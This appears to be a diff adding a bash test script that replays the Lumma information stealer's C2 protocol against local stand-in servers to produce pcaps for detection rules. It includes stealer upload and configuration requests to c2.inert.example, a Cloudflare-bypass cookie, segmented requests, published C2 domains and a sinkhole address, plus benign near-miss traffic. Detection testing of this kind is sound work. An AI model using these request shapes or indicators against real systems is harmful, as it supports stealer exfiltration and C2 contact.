@@ -1,0 +1,154 @@
+#!/bin/bash
+# lumma.sh [CASE ...] — captures of the Lumma stealer's protocol generations, pcaps/lumma/.
+#
+# clients   curl, dig, openssl s_client     servers  server.py, dnsmasq, openssl s_server
+# source    rules/lumma.yaml cites what the shapes follow
+PCAPS=lumma
+. "$(dirname "$0")/lib.sh"
+sc_up
+
+DIG_V=$(dig -v 2>&1 | sed 's/^DiG /dig /; s/-.*//')
+DNSMASQ_V=$(dnsmasq --version | sed -n '1s/Dnsmasq version \([^ ]*\).*/dnsmasq \1/p')
+SPOKE="$CURL_V, tools/capture/server.py ($PY_V)"
+CHROME='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.5414.120 Safari/537.36'
+NEW='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36'
+FORM='Content-Type: application/x-www-form-urlencoded'
+C2="http://c2.inert.example"
+c2() { web --resolve "c2.inert.example:80:$RIGHT" "$@"; }
+app() { web --resolve "app.example.org:80:$RIGHT" -A "$NEW" "$@"; }
+
+serve right 80 "$PY" "$SC_HERE/server.py" stealer 80
+if wants v1; then
+  begin v1
+  $SHAPES lumma-upload v1 >"$SC_TMP/up"
+  c2 -A 'TeslaBrowser/5.5' -H 'Content-Type: multipart/form-data; boundary=bq7Rk2Xv9LmTz0' --data-binary "@$SC_TMP/up" "http://$RIGHT/c2sock"
+  c2 -A 'TeslaBrowser/5.5' --data 'hwid=0' "http://$RIGHT/c2conf"
+  end 2025-07-23T09:00:00Z
+  note "Lumma 1 to 3" "upload to /c2sock and request to /c2conf, with the early User-Agent, on a bare address" "$SPOKE" "lumma.v1-path twice, lumma.v1-agent twice" "-"
+fi
+if wants v4; then
+  begin v4
+  c2 -A "$NEW" -H "$FORM" --data 'act=life' $C2/api
+  c2 -A "$NEW" -H "$FORM" --data 'act=recive_message&ver=4.0&lid=inert--test&j=' $C2/api
+  c2 -A "$NEW" -H "$FORM" --data 'act=recive_message&lid=inert--test&j=default&ver=4.0' -H 'Cookie: __cf_mw_byp=inert' $C2/api
+  $SHAPES lumma-upload v4 >"$SC_TMP/up"
+  c2 -A "$NEW" -H 'Content-Type: multipart/form-data; boundary=bq7Rk2Xv9LmTz0' --data-binary "@$SC_TMP/up" $C2/api
+  end 2025-07-23T09:10:00Z
+  note "Lumma 4" "sign of life, configuration asked for in both orders of parameters (the second with the cookie that passes a Cloudflare warning), upload" "$SPOKE" \
+    "lumma.v4-life once, lumma.v4-config twice, lumma.v4-upload once, lumma.cf-bypass once" "-"
+fi
+if wants v6; then
+  begin v6
+  # Field order as the stealer's WinINet client sends it.
+  c2h() { c2 -H 'Cache-Control: no-cache' -H 'Connection: Keep-Alive' -H 'Pragma: no-cache' -H 'Accept:' "$@"; }
+  c2h -A "$CHROME" -H "$FORM" --data 'uid=5f00aa11bb22cc33dd44ee55ff660077&cid=' $C2/qpdl
+  for pid in 2 3 1 1; do
+    $SHAPES lumma-upload $pid >"$SC_TMP/up"
+    c2h -A "$CHROME" -H 'Content-Type: multipart/form-data; boundary=bq7Rk2Xv9LmTz0' --data-binary "@$SC_TMP/up" $C2/qpdl
+  done
+  c2h -A "$CHROME" -H "$FORM" --data 'msg=soft' $C2/qpdl
+  c2h -A "$CHROME" -H "$FORM" --data 'uid=5f00aa11bb22cc33dd44ee55ff660077&cid=&hwid=0123456789ABCDEF0123456789ABCDEF' $C2/qpdl
+  end 2025-07-23T09:20:00Z
+  note "Lumma 5 and 6" "configuration, four uploads (parts uid, pid, hwid, file), a module's notice, task list" "$SPOKE" \
+    "lumma.v6-config twice, lumma.v6-upload four times, lumma.v6-task once; the notice alone is silent" "-"
+fi
+if wants v6-split; then
+  begin v6-split
+  printf 'POST /zkjr/api HTTP/1.1\r\nHost: c2.inert.example\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 41\r\nConnection: close\r\n\r\nuid=5f00aa11bb22cc33dd44ee55ff660077&cid=' >"$SC_TMP/split"
+  left "$PY" "$SC_HERE/raw.py" $RIGHT 80 "$SC_TMP/split" 1 3
+  end 2025-07-23T09:30:00Z
+  note "Lumma 6: three bytes per segment" "the configuration request in three-byte segments" "tools/capture/raw.py, server.py ($PY_V)" "lumma.v6-config once" "-"
+fi
+if wants gate-2026; then
+  begin gate-2026
+  c2 -A "$NEW" "$C2/api/set_agent?id=0123456789abcdef0123456789abcdef&token=00112233445566778899aabbccddeeff&act=log"
+  c2 -A "$NEW" -H "$FORM" --data 'screen=1920x1080&lang=en-US&inert=1' "$C2/api/set_agent?id=0123456789abcdef0123456789abcdef&token=00112233445566778899aabbccddeeff&act=log"
+  end 2026-01-27T12:00:00Z
+  note "Lumma: the profiling gate of 2026" "GET and POST of /api/set_agent with id, token and act=log" "$SPOKE" "lumma.gate-2026 twice" "-"
+fi
+if wants near; then
+  begin near
+  app -H "$FORM" --data 'act=get_message&chat=12&since=991' http://app.example.org/api
+  app -H "$FORM" --data 'act=recive_message&room=3' http://app.example.org/api
+  app -H "$FORM" --data 'uid=1001&cid=7' http://app.example.org/profile
+  app -H "$FORM" --data 'uid=5f00aa11bb22cc33&name=inert' http://app.example.org/api
+  app -H "$FORM" --data 'act=lifecycle&id=3' http://app.example.org/api
+  app -F uid=7 -F 'file=@/dev/null;filename=data.csv' http://app.example.org/upload
+  app "http://app.example.org/api/set_agent?name=Smith"
+  app -H "$FORM" --data 'msg=post' http://app.example.org/wall
+  end 2025-07-23T10:00:00Z
+  note "Near miss: ordinary programs with such parameters" \
+    "a chat (also with the misspelt act), profile forms with uid and cid, a life cycle call, an upload, an agent's profile, a wall post" "$SPOKE" "-" "every rule of lumma"
+fi
+unserve
+
+cat >"$SC_TMP/dns.conf" <<END
+no-resolv
+no-hosts
+no-daemon
+user=root
+bind-interfaces
+listen-address=$RIGHT
+local=/top/
+local=/ru/
+local=/xin/
+local=/run/
+local=/shop/
+local=/com/
+local=/org/
+address=/vishneviyjazz.ru/185.95.159.55
+address=/snakerjs.run/40.91.108.115
+END
+ask() { left dig +time=2 +tries=1 +noedns @$RIGHT "$@" >/dev/null || true; }
+serve right 53 dnsmasq -C "$SC_TMP/dns.conf" --pid-file="$SC_TMP/dnsmasq.pid"
+if wants names-dns; then
+  begin names-dns
+  ask vishneviyjazz.ru A
+  ask www.NarrathFPT.top A
+  end 2025-08-15T09:00:00Z
+  note "Lumma: known names" "two published C2 names, one as a name below it in mixed case" "$DIG_V, $DNSMASQ_V" "lumma.name-dns twice" "-"
+fi
+if wants names-near; then
+  begin names-near
+  ask vishneviyjazz.ru.example.org A
+  ask myvishneviyjazz.ru A
+  ask yamakrug.com A
+  end 2025-08-15T09:01:00Z
+  note "Near miss: names that look like Lumma's" "a known name below another domain, as the end of a longer label, with another ending" "$DIG_V, $DNSMASQ_V" "-" "every rule of lumma"
+fi
+if wants sinkhole; then
+  begin sinkhole
+  ask snakerjs.run A
+  end 2025-07-23T11:00:00Z
+  note "Lumma: a seized name answers with the sinkhole" "a published name, answered with the address of the seizure" "$DIG_V, $DNSMASQ_V" \
+    "lumma.name-dns once, lumma.sinkhole-answer once" "-"
+fi
+if wants rollover; then
+  begin rollover
+  for n in climatologfy.top narrwathe.top jactkthy.top leasefgjj.top ehairqcui.top thredatqj.top; do ask "$n" A; done
+  end 2025-07-23T11:10:00Z
+  note "Lumma: one name after the other" "six unknown names of a cheap ending within two seconds, all NXDOMAIN" "$DIG_V, $DNSMASQ_V" "lumma.rollover once" "lumma.name-dns"
+fi
+if wants rollover-near; then
+  begin rollover-near
+  for n in example.top www.example.top cdn.example.top; do ask "$n" A; done
+  for n in a.example.com b.example.com c.example.com d.example.com; do ask "$n" A; done
+  end 2025-07-23T11:20:00Z
+  note "Near miss: other names that do not exist" "three names of that ending, four of another" "$DIG_V, $DNSMASQ_V" "-" "lumma.rollover"
+fi
+unserve
+
+if wants names-sni; then
+  openssl req -x509 -newkey rsa:2048 -nodes -keyout "$SC_TMP/k" -out "$SC_TMP/c" -days 30 -subj /CN=inert.example 2>/dev/null
+  right_ip 40.91.108.115
+  serve right 443 openssl s_server -accept 443 -cert "$SC_TMP/c" -key "$SC_TMP/k" -quiet -rev
+  tls() { { printf inert; sleep 0.2; } | left openssl s_client -connect "$1:443" -quiet -no_ign_eof -servername "$2" >/dev/null 2>&1 || true; }
+  begin names-sni
+  tls $RIGHT narrathfpt.top
+  tls $RIGHT narrathfpt.top.example.org
+  tls 40.91.108.115 leasegjjr.digital
+  end 2025-07-23T11:30:00Z
+  unserve
+  note "Lumma: names in TLS" "a published name, a near name, and a published name at the sinkhole's address" "openssl s_client and s_server, $SSL_V" \
+    "lumma.name-tls twice, lumma.sinkhole-contact once" "anything for the second handshake but what all TLS gets"
+fi
